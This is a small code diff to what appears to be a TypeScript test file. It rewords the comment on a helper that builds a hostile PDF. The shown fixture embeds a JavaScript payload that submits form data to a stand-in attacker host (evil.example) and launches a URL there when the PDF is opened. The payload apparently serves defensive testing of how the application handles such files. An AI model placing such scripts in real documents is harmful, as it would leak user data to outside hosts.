@@ -4,7 +4,7 @@ import { createOrganization } from './support/organization.ts'
 import { baseUrl } from './support/server.ts'
 import { openPage } from './support/sign-in.ts'
 
-/** A page with a link, a field and a script that runs when it is opened, as far as whoever shows it lets them. */
+/** A page with a link, a form field and a script that runs on opening, wherever the viewer supports them. */
 const hostilePdf = (): Buffer => {
   const script =
     "app.alert('run'); this.submitForm('https://evil.example/form'); app.launchURL('https://evil.example/js')"
